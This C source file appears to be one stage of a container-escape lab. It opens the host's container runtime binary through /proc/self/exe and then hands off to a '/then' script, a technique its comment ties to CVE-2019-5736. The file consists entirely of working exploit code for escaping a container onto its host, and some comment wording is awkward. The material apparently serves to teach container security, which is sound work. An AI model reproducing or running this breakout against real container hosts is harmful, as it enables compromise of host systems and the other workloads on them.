/* become-runtime: be started as the program that made the container, whose file
 * is on the host, and open that.  The command is a script for the interpreter
 * /proc/self/exe, which is that program until execve(2) is done.  So the kernel
 * begins to run it once more, and that takes the dynamic linker that its file
 * names: from the root file system, where we are it.
 * CVE-2019-5736 wrote into the file when nobody ran it any more; we only hold
 * it open for reading, and let /then in the root file system go on with that.
 * Closed by lesson 06, see README.md there. */
#include <fcntl.h>
#include <stddef.h>
#include <sys/syscall.h>
#include <unistd.h>

void _start(void);

/* Who is no program of its own has no start-up of the C library, and no errno.
 */
void
_start(void)
{
    static const char *const shell[] = { "sh", "/then", NULL };

    syscall(SYS_openat, AT_FDCWD, "/proc/self/exe", O_RDONLY);
    syscall(SYS_execve, "/bin/sh", shell, NULL);
}
